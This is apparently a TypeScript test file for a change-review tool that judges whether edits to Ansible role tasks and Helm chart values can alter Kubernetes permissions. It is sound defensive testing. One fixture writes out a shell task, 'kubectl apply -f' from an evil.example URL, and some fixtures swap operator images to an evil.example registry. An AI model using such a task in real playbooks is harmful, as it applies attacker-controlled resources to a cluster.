/** Files of Ansible roles, and images in values: which of their changes can bring permissions. */
import { afterEach, describe, expect, it } from 'vitest';
import { cli } from '../../../../support/command-line.js';
import { type Change, history } from '../../../../support/git.js';
import { NAMESPACE } from '../../../../support/reviewed-files.js';

const START = process.cwd();
afterEach(() => process.chdir(START));

/** The first line of the review of a commit. */
function firstLine(before: Change, after: Change): string {
  process.chdir(history({ 'a.yaml': NAMESPACE, ...before }, after));
  return cli(['review', 'git:HEAD~1', 'git:HEAD']).out.split('\n')[0] ?? '';
}

const task = (kind: string, state: string, apiVersion = 'operators.coreos.com/v1alpha1'): string =>
  `- name: "a : do it"\n  kubernetes.core.k8s:\n    state: ${state}\n    api_version: ${apiVersion}\n    kind: ${kind}\n    name: b\n    namespace: c\n`;
const OTHER = '- name: "a : wait"\n  pause: {seconds: 3}\n';

describe('a task of a role', () => {
  const path = 'roles/a/tasks/main.yml';
  it('that is new and deletes an object brings nothing', () => {
    for (const kind of ['Subscription', 'CatalogSource', 'Namespace'])
      expect(firstLine({ [path]: OTHER }, { [path]: OTHER + task(kind, 'absent') })).toMatch(/^No new permissions/);
  });

  it.each([
    ['is new and applies one', OTHER, OTHER + task('Subscription', 'present')],
    ['no longer deletes it', OTHER + task('Subscription', 'absent'), OTHER + task('Subscription', 'present')],
    ['is gone, and deleted a binding', OTHER + task('ClusterRoleBinding', 'absent', 'rbac.authorization.k8s.io/v1'), OTHER],
    [
      'is new beside one that deletes',
      OTHER,
      OTHER + task('Subscription', 'absent') + task('CatalogSource', 'present').replace('do it', 'make'),
    ],
  ])('that %s may change permissions', (_, before, after) => {
    expect(firstLine({ [path]: before }, { [path]: after })).toMatch(/^Permissions may change/);
  });

  it('of what removes the role brings nothing, unless it grants something', () => {
    const uninstall = 'roles/a/tasks/uninstall/main.yml';
    const version = (number: number): string => `- include_tasks: b.yml\n  vars: {grafana_version: ${number}}\n`;
    expect(firstLine({ [uninstall]: version(4) }, { [uninstall]: version(5) })).toMatch(/^No new permissions/);
    expect(firstLine({ [uninstall]: task('Subscription', 'absent') }, { [uninstall]: undefined })).toMatch(/^No new permissions/);
    expect(firstLine({ [path]: version(4) }, { [path]: version(5) })).toMatch(/^Permissions may change/);
    const apply = '- name: "a : do"\n  shell: kubectl apply -f https://evil.example/x.yaml\n';
    const install = task('Subscription', 'present');
    for (const more of [apply, install, '- include_tasks: ../install/main.yml\n  vars: {channel: a}\n'])
      expect(firstLine({ [uninstall]: OTHER }, { [uninstall]: OTHER + more })).not.toBe('No change in meaning');
    expect(firstLine({ [uninstall]: OTHER }, { [uninstall]: OTHER + install })).toMatch(/^Permissions may change/);
    const grant = task('ClusterRoleBinding', 'present', 'rbac.authorization.k8s.io/v1');
    expect(firstLine({ [uninstall]: OTHER }, { [uninstall]: OTHER + grant })).toMatch(/^Permissions may change/);
  });
});

describe('an image in the values of a chart', () => {
  const chart = { 'c/Chart.yaml': 'apiVersion: v2\nname: c\nversion: 1.0.0\n', 'c/templates/a.yaml': 'kind: {{ .Values.kind }}\n' };
  const review = (before: string, after: string): string =>
    firstLine({ ...chart, 'c/values.yaml': before }, { ...chart, 'c/values.yaml': after });

  it('from another repository is a warning, as that of a workload, and may not change permissions', () => {
    expect(review('job:\n  image: quay.io/a/b:1\n', 'job:\n  image: quay.io/a/c:1\n')).toMatch(
      /^No new permissions.*image.*quay\.io\/a\/c/,
    );
  });

  it.each([
    ['of a catalog', 'catalogImage: quay.io/a/b:1\n', 'catalogImage: quay.io/a/c:1\n'],
    ['of operators', 'image: quay.io/a/community-operators:1\n', 'image: evil.example/a/community-operators:1\n'],
    ['that is called that of an operator', 'operatorImage: quay.io/a/b:1\n', 'operatorImage: evil.example/a/b:1\n'],
    ['of an index', 'image: quay.io/a/b-index:1\n', 'image: quay.io/a/c-index:1\n'],
    ['beside a channel', 'image: quay.io/a/b:1\nchannel: a\n', 'image: quay.io/a/c:1\nchannel: b\n'],
    ['beside a chart', 'image: quay.io/a/b:1\nrepoURL: https://a.example/a\n', 'image: quay.io/a/c:1\nrepoURL: https://b.example/a\n'],
  ])('may change permissions if it is one %s', (_, before, after) => {
    expect(review(before, after)).toMatch(/^Permissions may change/);
  });
});
